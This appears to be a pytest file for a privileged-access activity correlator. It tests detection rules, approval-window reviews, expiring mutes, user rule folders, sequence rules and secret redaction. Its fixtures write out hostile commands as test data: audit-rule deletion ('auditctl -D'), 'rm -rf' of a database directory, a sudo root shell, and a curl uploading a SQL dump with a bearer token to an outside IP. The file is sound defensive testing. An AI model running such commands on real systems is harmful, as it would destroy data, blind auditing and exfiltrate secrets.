"""Detections in a run: approval context (FAIL / needs_review / MUTED), mutes and their expiry,
user rule folders, redaction, and the [detections] config section."""

from __future__ import annotations

from datetime import datetime, timezone
from pathlib import Path

import pytest

from correlate.config import parse_settings
from correlate.detect.run import DetectionSettings, Mute, cached_rules
from correlate.engine import correlate
from correlate.errors import InputError

DAY = "2026-11-16"
PAST = datetime(2001, 1, 1, tzinfo=timezone.utc)
FUTURE = datetime(2100, 1, 1, tzinfo=timezone.utc)


def detections(store, run_id) -> dict:
    rows = store.query_dicts(
        "SELECT a.event_id, d.rule_id, d.review, d.muted_by, d.sequence_id "
        "FROM detections d JOIN activity a USING (act_id) WHERE d.run_id = ? "
        "ORDER BY a.event_id, d.rule_id", [run_id])
    return {(r["event_id"], r["rule_id"]): r for r in rows}


@pytest.fixture
def risky(world):
    world.approval("A", f"{DAY}T10:00:00Z", f"{DAY}T12:00:00Z")
    world.action("inside", f"{DAY}T11:00:00Z", action="exec", detail="auditctl -D")
    world.action("outside", f"{DAY}T15:00:00Z", action="exec", detail="auditctl -D")
    world.action("harmless", f"{DAY}T11:05:00Z", action="exec", detail="auditctl -l")
    world.action("db", f"{DAY}T11:10:00Z", account="bob", target="db-01", action="exec",
                 detail="rm -rf /var/lib/mysql")
    return world


def test_risky_action_is_needs_review_inside_an_approval_and_fail_outside(risky):
    store = risky.store()
    run = correlate(store)
    got = detections(store, run)
    assert got[("inside", "auditctl_rules_deleted")]["review"] == "needs_review"
    assert got[("outside", "auditctl_rules_deleted")]["review"] == "FAIL"
    assert got[("db", "recursive_delete_of_data")]["review"] == "FAIL"   # no approval at all
    assert not any(k[0] == "harmless" for k in got)
    # the verdict of the same action agrees with the review
    verdicts = dict(store.query("SELECT a.event_id, f.status FROM findings f JOIN activity a "
                                "USING (act_id) WHERE f.run_id = ?", [run]))
    assert (verdicts["inside"], verdicts["outside"]) == ("PASS", "FAIL")
    rules = store.query("SELECT count(*), count(DISTINCT rule_id) FROM detection_rules "
                        "WHERE run_id = ?", [run])[0]
    assert rules[0] == rules[1] == len(cached_rules(()))


def test_a_mute_lists_the_detection_as_muted_with_its_reason_until_it_expires(risky):
    store = risky.store()
    settings = DetectionSettings(mutes=(
        Mute(rule="auditctl_*", account="ALICE", reason="audit rules reloaded by CHG-1",
             expires=FUTURE),
        Mute(rule="recursive_delete_of_data", account="bob", reason="expired", expires=PAST),
        Mute(rule="recursive_delete_of_data", account="carol", reason="other account",
             expires=FUTURE)))
    got = detections(store, correlate(store, detections=settings))
    for event in ("inside", "outside"):
        row = got[(event, "auditctl_rules_deleted")]
        assert (row["review"], row["muted_by"]) == ("MUTED", "audit rules reloaded by CHG-1")
    assert got[("db", "recursive_delete_of_data")]["review"] == "FAIL"
    assert got[("db", "recursive_delete_of_data")]["muted_by"] is None


def test_a_mute_scoped_to_a_ticket_or_target(risky):
    store = risky.store()
    settings = DetectionSettings(mutes=(
        Mute(rule="*", ticket="CHG-*", reason="covered by change", expires=FUTURE),
        Mute(rule="recursive_delete_of_data", target="db-0[12]", reason="db rebuild",
             expires=FUTURE)))
    got = detections(store, correlate(store, detections=settings))
    assert got[("inside", "auditctl_rules_deleted")]["review"] == "MUTED"     # ticket CHG-1
    assert got[("outside", "auditctl_rules_deleted")]["review"] == "FAIL"     # no ticket
    assert got[("db", "recursive_delete_of_data")]["muted_by"] == "db rebuild"


def _shell_then_tamper(world, start: str, prefix: str) -> None:
    """seq_root_shell_then_audit_off: sudo to a root shell, then audit rules deleted."""
    world.action(f"{prefix}shell", f"{DAY}T{start}:00Z", account="root", actor="alice",
                 action="sudo.command", detail="/bin/bash")
    world.action(f"{prefix}tamper", f"{DAY}T{start}:30Z", account="root", actor="alice",
                 action="exec", detail="auditctl -D")


def test_sequence_members_carry_their_own_action_review_and_ticket_mute(world):
    """Each member row of a sequence is reviewed by its own action's finding (needs_review
    inside an approval, FAIL outside), and a ticket mute reaches it through that finding."""
    world.approval("A", f"{DAY}T10:00:00Z", f"{DAY}T12:00:00Z", account="root")
    _shell_then_tamper(world, "11:00", "in_")
    _shell_then_tamper(world, "15:00", "out_")
    store = world.store()
    got = detections(store, correlate(store))
    seq = "seq_root_shell_then_audit_off"
    assert {e: got[(e, seq)]["review"] for e in ("in_shell", "in_tamper", "out_shell",
                                                  "out_tamper")} == {
        "in_shell": "needs_review", "in_tamper": "needs_review",
        "out_shell": "FAIL", "out_tamper": "FAIL"}
    assert got[("in_tamper", "auditctl_rules_deleted")]["review"] == "needs_review"
    settings = DetectionSettings(mutes=(
        Mute(rule="seq_*", ticket="CHG-1", reason="planned rebuild", expires=FUTURE),))
    got = detections(store, correlate(store, detections=settings))
    assert {e: got[(e, seq)]["review"] for e in ("in_shell", "in_tamper", "out_shell",
                                                  "out_tamper")} == {
        "in_shell": "MUTED", "in_tamper": "MUTED", "out_shell": "FAIL", "out_tamper": "FAIL"}
    assert got[("in_tamper", "auditctl_rules_deleted")]["review"] == "needs_review"


def test_secrets_in_a_detected_command_stay_redacted(world):
    world.action("up", f"{DAY}T11:00:00Z", action="exec",
                 detail="curl -T /tmp/dump.sql -H 'Authorization: Bearer s3cr3tT0kenValue' "
                        "https://203.0.113.7/up")
    store = world.store()
    run = correlate(store)
    (detail,) = store.query("SELECT a.detail FROM detections d JOIN activity a USING (act_id) "
                            "WHERE d.run_id = ? AND d.rule_id = 'network_egress_tool'", [run])[0]
    assert "s3cr3tT0kenValue" not in detail and "[REDACTED]" in detail


def _rule(folder: Path, name: str, body: str) -> None:
    folder.mkdir(exist_ok=True)
    (folder / f"{name}.yml").write_text(body)


USER_RULE = """title: Package removed
name: {name}
description: apt-get purge in production removes software a service depends on.
logsource: {{product: linux, category: process_creation}}
detection:
  sel:
    CommandLine|contains: 'apt-get purge'
  condition: sel
level: low
tags: [attack.t1489]
pamcorr:
  class: destructive
  examples: {{match: [{{detail: "apt-get purge nginx"}}], no_match: [{{detail: "apt-get install nginx"}}]}}
"""


def test_user_rule_folder_adds_rules(world, tmp_path):
    folder = tmp_path / "rules"
    _rule(folder, "pkg_purged", USER_RULE.format(name="pkg_purged"))
    world.action("purge", f"{DAY}T11:00:00Z", action="exec", detail="apt-get purge nginx")
    store = world.store()
    got = detections(store, correlate(store, detections=DetectionSettings(rule_dirs=(str(folder),))))
    assert got[("purge", "pkg_purged")]["review"] == "FAIL"


@pytest.mark.parametrize("name, body, message", [
    ("other_name", USER_RULE.format(name="pkg_purged"), "does not match the file name"),
    ("bad_field", USER_RULE.format(name="bad_field").replace("CommandLine", "ParentImage"),
     "field 'ParentImage' is not mapped"),
    ("bad_source", USER_RULE.format(name="bad_source").replace("linux", "windows"),
     "is not served"),
    ("no_class", USER_RULE.format(name="no_class").replace("class: destructive", "class: x"),
     "pamcorr.class must be one of"),
    ("auditctl_rules_deleted", USER_RULE.format(name="auditctl_rules_deleted"),
     "defined more than once"),
])
def test_a_bad_rule_file_is_an_error_naming_the_file(tmp_path, name, body, message):
    folder = tmp_path / "rules"
    _rule(folder, name, body)
    with pytest.raises(InputError) as err:
        cached_rules.__wrapped__((str(folder),))
    assert message in str(err.value) and name in str(err.value)


def test_detections_config_section(tmp_path):
    cfg = {"detections": {"rules": ["my-rules"], "mute": [
        {"rule": "root_shell_via_sudo", "account": "svc-backup", "reason": "restore test",
         "expires": datetime(2027, 3, 31).date()}]}}
    s = parse_settings(cfg, tmp_path / "p.toml")
    assert s.detections.rule_dirs == (str(tmp_path / "my-rules"),)
    (m,) = s.detections.mutes
    assert m.expires == datetime(2027, 4, 1, tzinfo=timezone.utc)   # through the whole day
    for bad, message in [({"rule": "x", "account": "a", "reason": "r"}, "needs rule, reason"),
                         ({"rule": "x", "reason": "r", "expires": datetime(2027, 1, 1).date()},
                          "name the account, target or ticket"),
                         ({"rule": "x", "account": "a", "reason": "r",
                           "expires": datetime(2027, 1, 1, 9)}, "give a zone")]:
        with pytest.raises(InputError, match=message):
            parse_settings({"detections": {"mute": [bad]}}, tmp_path / "p.toml")


def test_correlate_cli_takes_rule_folders_and_the_config_mutes(world, tmp_path, monkeypatch):
    from click.testing import CliRunner

    from correlate.cli import main
    monkeypatch.setenv("PAMCORR_DB", str(tmp_path / "c.duckdb"))
    folder = tmp_path / "rules"
    _rule(folder, "pkg_purged", USER_RULE.format(name="pkg_purged"))
    world.action("purge", f"{DAY}T11:00:00Z", action="exec", detail="apt-get purge nginx")
    world.action("wipe", f"{DAY}T11:00:00Z", action="exec", detail="auditctl -D")
    runner = CliRunner()
    for kind, path in world.write().items():
        assert runner.invoke(main, ["ingest", "generic", "--kind", kind, str(path)]).exit_code == 0
    config = tmp_path / "p.toml"
    config.write_text('[policy]\nfail_on = ["critical"]\n[detections]\n[[detections.mute]]\n'
                      'rule = "auditctl_*"\naccount = "alice"\nreason = "lab host"\n'
                      'expires = 2100-01-01\n')
    res = runner.invoke(main, ["correlate", "--rules", str(folder), "--config", str(config)])
    assert res.exit_code == 0, res.output
    res = runner.invoke(main, ["detections", "--format", "jsonl"])
    import json
    got = {(d["event_id"], d["rule_id"]): d["review"] for d in map(json.loads, res.output.splitlines())}
    assert got == {("purge", "pkg_purged"): "FAIL", ("wipe", "auditctl_rules_deleted"): "MUTED"}
    # without the mute the critical detection fails the run
    res = runner.invoke(main, ["correlate", "--fail-on", "critical"])
    assert res.exit_code == 3, res.output
    assert parse_settings({"policy": {"fail_on": "high"}}, tmp_path / "p.toml").fail_on == ("high",)


def test_activity_after_a_revocation_is_flagged_and_plain_overruns_are_not(world):
    world.approval("R", f"{DAY}T10:00:00Z", f"{DAY}T12:00:00Z", status="revoked",
                   revoked_at=f"{DAY}T10:30:00Z")
    world.approval("P", f"{DAY}T10:00:00Z", f"{DAY}T12:00:00Z", account="bob")
    world.action("before", f"{DAY}T10:15:00Z", action="exec", detail="uptime")
    world.action("after", f"{DAY}T11:00:00Z", action="exec", detail="uptime")
    world.action("overrun", f"{DAY}T13:00:00Z", account="bob", action="exec", detail="uptime")
    store = world.store()
    run = correlate(store)
    got = detections(store, run)
    assert list(got) == [("after", "activity_after_revocation")]
    assert got[("after", "activity_after_revocation")]["review"] == "FAIL"
    verdicts = dict(store.query("SELECT a.event_id, f.verdict FROM findings f JOIN activity a "
                                "USING (act_id) WHERE f.run_id = ?", [run]))
    assert verdicts["after"] == verdicts["overrun"] == "out_of_window"


SEQ_RULE = """title: Packages purged twice
name: seq_purged_twice
description: Two purges in one group within fifteen minutes.
correlation:
  type: {kind}
  rules: [pkg_purged]
  group-by: [{column}]
  timespan: 15m
  condition:
    gte: 2
{field}level: high
tags: [attack.t1489]
pamcorr:
  class: sequence
"""


@pytest.mark.parametrize("kind", ["event_count", "value_count"])
@pytest.mark.parametrize("column", ["session_id", "detail", "approval_id"])
def test_a_sequence_groups_by_any_column_it_names(world, tmp_path, column, kind):
    """det_events fills only the columns the loaded sequences read (events_sql): each column a
    sequence can group by must still be filled when one does. Four purges within minutes; only
    same1 and same2 share the session, the command and the approval (B)."""
    folder = tmp_path / "rules"
    _rule(folder, "pkg_purged", USER_RULE.format(name="pkg_purged"))
    field = "    field: actor\n" if kind == "value_count" else ""   # ann and bob in each pair
    _rule(folder, "seq_purged_twice", SEQ_RULE.format(kind=kind, column=column, field=field))
    for approval, start, end in [("A", "01:00", "03:00"), ("C", "03:30", "05:00"),
                                 ("B", "05:30", "10:00")]:
        world.approval(approval, f"{DAY}T10:{start}Z", f"{DAY}T10:{end}Z")
    for event_id, minute, actor, session, package in [("other1", "02", "ann", "s2", "redis"),
                                                      ("other2", "04", "bob", "s3", "mysql"),
                                                      ("same1", "06", "ann", "s1", "nginx"),
                                                      ("same2", "08", "bob", "s1", "nginx")]:
        world.action(event_id, f"{DAY}T10:{minute}:00Z", action="exec", actor=actor,
                     session_id=session, detail=f"apt-get purge {package}")
    store = world.store()
    got = detections(store, correlate(store, detections=DetectionSettings(
        rule_dirs=(str(folder),))))
    assert sorted(e for (e, r) in got if r == "seq_purged_twice") == ["same1", "same2"]


def test_value_count_reads_the_field_it_counts(world, tmp_path):
    folder = tmp_path / "rules"
    _rule(folder, "pkg_purged", USER_RULE.format(name="pkg_purged"))
    _rule(folder, "seq_purged_twice", SEQ_RULE.format(
        kind="value_count", column="account", field="    field: session_id\n"))
    for event_id, minute, session in [("p1", "02", "s1"), ("p2", "04", "s1"), ("p3", "06", "s2")]:
        world.action(event_id, f"{DAY}T10:{minute}:00Z", action="exec", session_id=session,
                     detail="apt-get purge nginx")
    store = world.store()
    got = detections(store, correlate(store, detections=DetectionSettings(
        rule_dirs=(str(folder),))))
    assert sorted(e for (e, r) in got if r == "seq_purged_twice") == ["p1", "p2", "p3"]


def test_det_events_reads_only_what_the_sequences_read_except_for_watch(world):
    """A correlate's det_events (the matches of sequence members, 2e6 rows in the 1e7 bench) is
    a view over det_hits, which carries the columns the loaded sequences read from the join that
    found the matches: no second read of activity, no join with det_f unless a sequence reads
    approval_id. pamcorr watch (events_hook) gets a table with every column, for later batches."""
    from correlate.detect.run import (EVENT_COLUMNS, carried, events_sql, hit_groups,
                                      read_columns, run_detections)
    rules = list(cached_rules(()))
    read = read_columns(rules)
    assert read == {"account", "target", "actor"}          # the shipped sequences' group-by
    assert carried(read) == ("ts", "account", "target", "actor")
    narrow = events_sql(rules, read)
    assert "CREATE TEMP VIEW det_events" in narrow
    assert "activity" not in narrow and "det_f" not in narrow
    hits = [h for _, _, h in hit_groups(rules, carried(read))[1]]
    assert all("a.ts, lower(a.account), lower(a.target), lower(a.actor) FROM" in h for h in hits)
    full = events_sql(rules, read_columns(rules, every_column=True), table=True)
    assert "CREATE TEMP TABLE det_events" in full and "det_f" in full
    assert set(read_columns(rules, every_column=True)) == set(EVENT_COLUMNS)
    world.approval("A", f"{DAY}T10:00:00Z", f"{DAY}T12:00:00Z", account="root")
    world.action("shell", f"{DAY}T11:00:00Z", account="root", actor="alice",
                 action="sudo.command", detail="/bin/bash", session_id="s9")
    store = world.store()
    kept = []
    hook = lambda con: kept.extend(con.execute(  # noqa: E731
        "SELECT session_id, detail, source, approval_id FROM det_events").fetchall())
    run = correlate(store, detections=DetectionSettings(enabled=False))
    with store.transaction():
        run_detections(store.con, run, None, None, FUTURE, events_hook=hook)
    assert kept == [("s9", "/bin/bash", "generic", "A")]


class _Recording:
    """A connection that keeps the text of every statement run through it."""

    def __init__(self, con):
        self.con, self.statements = con, []

    def execute(self, sql, *args):
        self.statements.append(sql)
        return self.con.execute(sql, *args)

    def executemany(self, sql, *args):
        self.statements.append(f"executemany: {sql}")
        return self.con.executemany(sql, *args)

    def __getattr__(self, name):
        return getattr(self.con, name)


def test_rules_of_a_source_absent_from_the_period_are_not_planned(risky):
    """A group of rules whose view holds no row of the period (CloudTrail rules on a store of
    commands) has no values to match, and its CASE statement is not run (planning them cost a
    fixed 0.02 s a run); the command rules still are."""
    from correlate.detect.run import run_detections
    store = risky.store()
    run = correlate(store, detections=DetectionSettings(enabled=False))
    rec = _Recording(store.con)
    with store.transaction():
        assert run_detections(rec, run, None, None, FUTURE) > 0
    ran = "\n".join(rec.statements)
    assert "'auditctl_rules_deleted'" in ran
    assert "'cloudtrail_logging_stopped'" not in ran and "'vault_secret_read'" not in ran


def test_the_rules_a_run_ran_are_stored_in_one_statement(world, tmp_path):
    """detection_rules holds every rule the run ran, as it was (an untagged user rule: no
    ATT&CK ids; a sequence: its members), written by one INSERT, not one per rule (68
    statements cost 0.03-0.05 s a run)."""
    from correlate.detect.run import run_detections
    folder = tmp_path / "rules"
    _rule(folder, "pkg_purged", USER_RULE.format(name="pkg_purged").replace(
        "tags: [attack.t1489]\n", ""))
    _rule(folder, "seq_purged_twice", SEQ_RULE.format(kind="event_count", column="account",
                                                      field=""))
    world.action("purge", f"{DAY}T11:00:00Z", action="exec", detail="apt-get purge nginx")
    store = world.store()
    settings = DetectionSettings(rule_dirs=(str(folder),))
    run = correlate(store, detections=DetectionSettings(enabled=False))
    rec = _Recording(store.con)
    with store.transaction():
        run_detections(rec, run, None, None, FUTURE, settings)
    writes = [s for s in rec.statements if "detection_rules" in s]
    assert len(writes) == 1 and not writes[0].startswith("executemany"), writes
    rules = cached_rules((str(folder),))
    assert store.query("SELECT * EXCLUDE (run_id) FROM detection_rules WHERE run_id = ? "
                       "ORDER BY rowid", [run]) == [
        (r.id, r.title, r.cls, r.severity, list(r.attack), r.description,
         r.sequence.get("type", "event"), list(r.sequence.get("rules", [])), r.path, r.sha256)
        for r in rules]
    by_id = {r.id: r for r in rules}
    assert by_id["pkg_purged"].attack == () and by_id["seq_purged_twice"].sequence["rules"]
